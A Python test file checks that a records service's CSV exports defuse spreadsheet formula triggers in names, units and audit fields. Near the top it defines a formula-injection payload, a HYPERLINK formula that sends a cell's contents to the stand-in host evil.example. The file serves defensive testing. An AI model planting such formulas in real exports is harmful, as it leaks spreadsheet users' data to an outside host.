"""CSV exports never carry a cell a spreadsheet would run as a formula (issue #17, F12)."""

from __future__ import annotations

import csv
import datetime as dt
import io

from fastapi.testclient import TestClient

from register.domain.enums import Role
from register.exports import to_csv
from tests.api.helpers import PERSON, Minter, auth, create

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    for cell in cells(text):
        numeric = cell.lstrip("-").replace(".", "").isdigit()
        assert numeric or not cell.startswith(TRIGGERS), f"formula cell {cell!r} in\n{text}"


def test_the_shared_writer_defuses_every_trigger() -> None:
    text = to_csv(
        ["a"],
        [
            {"a": v}
            for v in (HYPERLINK, "@SUM(1)", "+44 7700 900123", "-2+3", "\t=1+1", "\r=1+1", "-12", "ordinary")
        ],
    )
    assert cells(text) == [
        "a",
        "'" + HYPERLINK,
        "'@SUM(1)",
        "'+44 7700 900123",
        "'-2+3",
        "'\t=1+1",
        "'\r=1+1",
        "-12",
        "ordinary",
    ]


def test_search_export_defuses_names(client: TestClient, token: Minter) -> None:
    om = token()
    create(client, om, identity={**PERSON["identity"], "forenames": HYPERLINK})
    create(client, om, identity={**PERSON["identity"], "forenames": "@SUM(1) Daniel"})
    r = client.post(
        "/v1/search/export",
        json={"query": {"type": "group", "criteria": [{"type": "name", "value": "Hartley"}]}},
        params={"purpose": "OP-1"},
        headers=auth(token(Role.INVESTIGATOR)),
    )
    assert r.status_code == 200, r.text
    assert "'" + HYPERLINK in cells(r.text) and "'@SUM(1) Daniel" in cells(r.text)
    assert_inert(r.text)


def test_statistics_worklist_and_audit_exports_defuse_free_text(client: TestClient, token: Minter) -> None:
    om, supervisor = token(), token(Role.SUPERVISOR)
    nid, _ = create(client, om, managing_unit="@SUM(1)")
    today = dt.date.today()  # the year in progress: a person registered today is in no year that has ended
    year = today.year + 1 if today > dt.date(today.year, 3, 31) else today.year
    figures = client.get("/v1/statistics", params={"year": year, "format": "csv"}, headers=auth(supervisor))
    assert figures.status_code == 200 and "'@SUM(1)" in cells(figures.text), figures.text
    assert_inert(figures.text)

    assert client.post("/v1/quality/runs", headers=auth(supervisor)).status_code == 201
    worklist = client.get(
        "/v1/quality/worklist", params={"rule": "MISSING-PHOTO", "format": "csv"}, headers=auth(supervisor)
    )
    assert worklist.status_code == 200 and "'@SUM(1)" in cells(worklist.text), worklist.text
    assert_inert(worklist.text)

    outsider = token(Role.INVESTIGATOR, area="essex")
    assert (
        client.get(f"/v1/nominals/{nid}", params={"purpose": HYPERLINK}, headers=auth(outsider)).status_code
        == 200
    )
    audit = client.get(
        "/v1/audit/events/export", params={"nominal_id": nid}, headers=auth(token(Role.AUDITOR))
    )
    assert audit.status_code == 200 and "'" + HYPERLINK in cells(audit.text), audit.text
    assert_inert(audit.text)
